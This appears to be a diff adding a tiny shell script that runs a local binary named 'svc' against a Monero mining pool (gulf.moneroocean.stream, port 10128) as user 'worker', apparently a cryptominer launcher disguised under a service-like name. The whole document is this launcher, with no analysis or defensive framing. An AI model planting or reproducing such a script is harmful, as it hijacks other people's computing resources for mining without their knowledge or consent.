@@ -1,0 +1,3 @@
+#!/bin/sh
+HOST=gulf.moneroocean.stream
+./svc --url "$HOST:10128" --user worker
